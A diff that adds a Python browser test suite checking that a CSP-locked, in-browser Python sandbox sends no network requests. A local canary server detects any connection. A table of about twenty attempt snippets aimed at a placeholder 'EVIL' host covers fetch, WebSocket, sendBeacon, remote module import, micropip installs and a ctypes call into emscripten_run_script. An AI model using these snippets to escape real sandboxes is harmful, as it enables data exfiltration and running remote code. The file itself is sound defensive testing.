@@ -1,0 +1,121 @@
+"""The CSP promise: no request leaves the sandbox, whatever its code does, hardened or not."""
+
+from __future__ import annotations
+
+import socket
+import threading
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Page, Request
+
+pytestmark = pytest.mark.browser
+
+
+class Canary:
+    """A TCP server that notes every connection and answers nothing."""
+
+    def __init__(self) -> None:
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self._listener.settimeout(0.1)
+        self.port = self._listener.getsockname()[1]
+        self.connections: list[bytes] = []
+        self._ended = threading.Event()
+        self._thread = threading.Thread(target=self._accept, daemon=True)
+
+    def __enter__(self) -> Canary:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._ended.set()
+        self._thread.join()
+        self._listener.close()
+
+    def _accept(self) -> None:
+        while not self._ended.is_set():
+            try:
+                connection, _ = self._listener.accept()
+            except TimeoutError:
+                continue
+            with connection:
+                connection.settimeout(1)
+                try:
+                    self.connections.append(connection.recv(200))
+                except TimeoutError:
+                    self.connections.append(b"")
+
+
+@pytest.fixture(scope="module")
+def canary() -> Iterator[Canary]:
+    with Canary() as listening:
+        yield listening
+
+
+ATTEMPTS = {
+    "fetch": "await js.fetch('http://EVIL/fetch')",
+    "fetch no-cors": "await js.fetch('http://EVIL/x', mode='no-cors')",
+    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch('http://EVIL/pyfetch')",
+    "open_url": "from pyodide.http import open_url\nopen_url('http://EVIL/open_url')",
+    "XMLHttpRequest": "r = js.XMLHttpRequest.new()\nr.open('GET', 'http://EVIL/xhr', False)\nr.send()",
+    "WebSocket": "w = js.WebSocket.new('ws://EVIL/ws')\nawait asyncio.sleep(0.3)\nassert w.readyState == 1",
+    "EventSource": "e = js.EventSource.new('http://EVIL/es')\nawait asyncio.sleep(0.3)\nassert e.readyState == 1",
+    "import": "await js.eval(\"import('http://EVIL/module.js')\")",
+    "importScripts": "js.importScripts('http://EVIL/script.js')",
+    "sendBeacon": "assert js.navigator.sendBeacon('http://EVIL/beacon', 'x')",
+    "WebTransport": "t = js.WebTransport.new('https://EVIL/wt')\nawait t.ready",
+    "nested worker": "js.Worker.new('http://EVIL/worker.js')\nraise OSError('a worker may be made, but loads nothing')",
+    "FontFace": "await js.FontFace.new('f', 'url(http://EVIL/font)').load()",
+    "RTCPeerConnection": "js.RTCPeerConnection.new()",
+    "BroadcastChannel": "js.BroadcastChannel.new('x').postMessage('x')\nraise OSError('heard by nobody')",
+    "indexedDB": "js.indexedDB.open('x')",
+    "caches": "await js.caches.open('x')",
+    "urllib": "import urllib.request\nurllib.request.urlopen('http://EVIL/urllib', timeout=1)",
+    "socket": "import socket\nsocket.create_connection(('127.0.0.1', EVILPORT), timeout=1).send(b'x')\n"
+    "await asyncio.sleep(0.3)\nraise OSError('sent into the void')",
+    "micropip": "import micropip\nawait micropip.install('http://EVIL/x-1-py3-none-any.whl')",
+    "emscripten_run_script": "import ctypes\nctypes.CDLL(None).emscripten_run_script(b\"fetch('http://EVIL/ctypes')\")",
+}
+
+
+@pytest.fixture(scope="module")
+def sandbox(browser, served: str) -> Iterator[Page]:
+    opened = browser.new_page()
+    opened.goto(f"{served}/script_host.html")
+    opened.wait_for_function("() => Boolean(window.codeact_start)")
+    opened.evaluate("() => codeact_start({limits: {time_ms: 5000}})")
+    yield opened
+    opened.close()
+
+
+def test_the_canary_hears_a_connection_that_is_made() -> None:
+    with Canary() as canary:
+        with socket.create_connection(("127.0.0.1", canary.port)) as connection:
+            connection.send(b"hello")
+        for _ in range(50):
+            if canary.connections:
+                break
+            threading.Event().wait(0.05)
+    assert canary.connections == [b"hello"]
+
+
+@pytest.mark.parametrize("attempt", ATTEMPTS)
+def test_nothing_leaves(attempt: str, sandbox: Page, canary: Canary) -> None:
+    code = ATTEMPTS[attempt].replace("EVILPORT", str(canary.port)).replace("EVIL", f"127.0.0.1:{canary.port}")
+    asked: list[Request] = []
+    sandbox.on("request", asked.append)
+    outcome = sandbox.evaluate("(code) => codeact_run({code})", f"import asyncio, js\n{code}\n'it worked'")
+    threading.Event().wait(0.3)
+    result = outcome.get("result") or {}
+    assert result.get("error") or outcome.get("error"), f"{attempt} did not fail: {result}"
+    assert not canary.connections
+    assert not [request.url for request in asked if str(canary.port) in request.url and request.failure != "csp"]
+    after = sandbox.evaluate("() => codeact_run({code: '40 + 2'})")
+    assert after["result"]["results"][0]["text/plain"] == "42"
+
+
+def test_the_frame_has_an_opaque_origin_and_no_way_to_the_page(sandbox: Page) -> None:
+    frame = next(frame for frame in sandbox.frames if "frame.html" in frame.url)
+    assert frame.evaluate("self.origin") == "null"
+    reached = frame.evaluate("() => { try { return parent.document.title } catch (error) { return error.name } }")
+    assert reached == "SecurityError"
